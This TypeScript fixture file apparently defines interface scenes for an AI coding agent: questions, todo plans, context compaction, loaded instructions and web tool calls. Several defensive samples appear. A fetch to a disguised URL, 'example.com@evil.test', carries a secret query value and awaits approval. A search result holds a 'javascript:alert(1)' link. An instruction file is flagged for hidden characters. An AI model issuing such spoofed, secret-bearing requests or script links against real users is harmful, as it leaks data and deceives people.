import type { TodoItem } from '../../../src/domain/tool/interaction.js';
import type { ViewCompactionItem, ViewState } from '../../../src/protocol/view-state.js';
import { answerWith, call, state, user } from './scene-parts.js';

const question = {
  question: 'Which package manager should the project use from now on?\nThe lock files of two are there.',
  choices: ['npm, which made the newer lock file', 'pnpm', 'Neither of them: keep both lock files as they are, and say in the README which one is right'],
  multiple: false,
};
const todos: readonly TodoItem[] = [
  { text: 'Run the tests', status: 'done' },
  { text: 'Find out why the median of an even count is wrong', status: 'done' },
  { text: 'Sort numbers as numbers', status: 'done' },
  { text: 'Return the mean of the two middle values when there is an even count of them', status: 'in_progress' },
  { text: 'Add a test for an empty list', status: 'pending' },
  { text: 'Run the tests again', status: 'pending' },
  { text: 'Say what was done', status: 'pending' },
];
const summary =
  '## What was done\n\n- The person asked for the failing test to be fixed.\n- `median` in `src/median.js` sorted **as text**.\n\n## What is left\n\nRun the tests again.';
const compaction = (id: string, over: Partial<ViewCompactionItem> = {}): ViewCompactionItem => ({
  kind: 'compaction',
  id,
  trigger: 'auto',
  summary,
  tokensBefore: 182_000,
  tokensAfter: 9_400,
  status: 'active',
  ...over,
});
const instructions: ViewState['instructions'] = {
  files: [
    { display: 'AGENTS.md', tokens: 1_234, truncated: false },
    { display: 'packages/a/AGENTS.md', tokens: 10_000, truncated: true },
    { display: 'packages/imported/CLAUDE.md', tokens: 56, truncated: false, hidden: '3 zero-width spaces, 12 tag characters' },
  ],
  leftOut: [
    { display: '.env', reason: 'It may contain passwords or keys, or a permission rule excludes it.' },
    { display: '~/notes/style.md', reason: 'AGENTS.md includes it, which you have not allowed yet.', needsConsent: true },
  ],
};
const waiting = (blocks: readonly unknown[], over: Partial<ViewState> = {}): ViewState =>
  state([user('Fix the failing test'), answerWith([{ type: 'text', text: 'I will look at the project first.' }, ...blocks], { status: 'streaming' })], {
    activity: 'running',
    ...over,
  });

/** Scenes in which something is waited for, planned, summarized or brought along. */
export const waitingScenes: Readonly<Record<string, ViewState>> = {
  retry: waiting([], { retry: { reason: 'The server is overloaded.', attempt: 2, maxAttempts: 8, at: Date.now() + 3_599_000 } }),
  question: waiting([call({ name: 'ask', subject: question.question, status: 'running', preview: { kind: 'question', question } })]),
  choices: waiting([
    call({
      name: 'ask',
      subject: 'Which checks?',
      status: 'running',
      preview: { kind: 'question', question: { question: 'Which checks?', choices: ['Types', 'Lint', 'Tests'], multiple: true } },
    }),
  ]),
  answered: state([
    user('Fix the failing test'),
    answerWith([
      call({ name: 'ask', subject: question.question, preview: { kind: 'question', question }, output: 'pnpm\nand remove the other lock file' }),
      { type: 'text', text: 'Then I remove `package-lock.json`.' },
    ]),
  ]),
  plan: waiting([call({ name: 'bash', subject: 'npm test', status: 'running' })], { todos, context: { used: 124_000, limit: 200_000 } }),
  planned: state([user('Fix the failing test'), answerWith([{ type: 'text', text: 'Done.' }])], {
    todos: todos.map(({ text }) => ({ text, status: 'done' as const })),
    context: { used: 158_400, limit: 200_000 },
  }),
  compaction: state(
    [
      compaction('c1', { status: 'covered', trigger: 'manual', tokensBefore: 90_000, tokensAfter: 7_000 }),
      user('Fix the failing test', 'u1'),
      compaction('c2', { status: 'undone' }),
      compaction('c3', { trigger: 'context_length' }),
      compaction('c4', { status: 'failed', summary: '', tokensBefore: 0, tokensAfter: 0 }),
      compaction('c5', { status: 'running', summary: '', tokensBefore: 0, tokensAfter: 0 }),
    ],
    { activity: 'running', context: { used: 195_000, limit: 200_000 } },
  ),
  instructions: state([user('Fix the failing test'), answerWith([{ type: 'text', text: 'Done.' }])], { instructions }),
  begin: state([], { title: 'New Chat', usage: '', instructions }),
  address: waiting(
    [
      call({
        name: 'fetch',
        subject: 'https://docs.example.com/guide?page=2',
        output: 'The guide.',
        preview: { kind: 'url', url: 'https://docs.example.com/guide?page=2' },
      }),
      call({
        name: 'fetch',
        subject: 'https://example.com@evil.test',
        status: 'awaiting_approval',
        preview: { kind: 'url', url: 'https://example.com@evil.test:8443/a/long/path/that/goes/on?q=SECRET\u200B&next=https%3A%2F%2Fexample.com%2F#end' },
        approval: { reasons: ['Web pages ask.'], proposal: ['WebFetch(domain:evil.test)'] },
      }),
    ],
    { activity: 'waiting' },
  ),
  websearch: waiting(
    [
      call({
        name: 'web_search',
        subject: 'vitest fake timers',
        topic: { what: 'vitest fake timers' },
        output:
          'Both say so [1].\n\n[1] Vitest & co\nhttps://vitest.dev/guide?x=1\nFake timers.\n\n[2] Safe title\nhttps://evil.test/\n\n[3] No link\njavascript:alert(1)',
        results: 2,
        preview: { kind: 'search', query: 'vitest fake timers', service: 'Brave Search' },
      }),
      call({
        name: 'web_search',
        subject: 'SECRET\u200B and more',
        status: 'awaiting_approval',
        preview: { kind: 'search', query: 'SECRET\u200B and more', service: 'Anthropic' },
        approval: { reasons: ['It contains invisible characters.'] },
      }),
    ],
    { activity: 'waiting' },
  ),
};
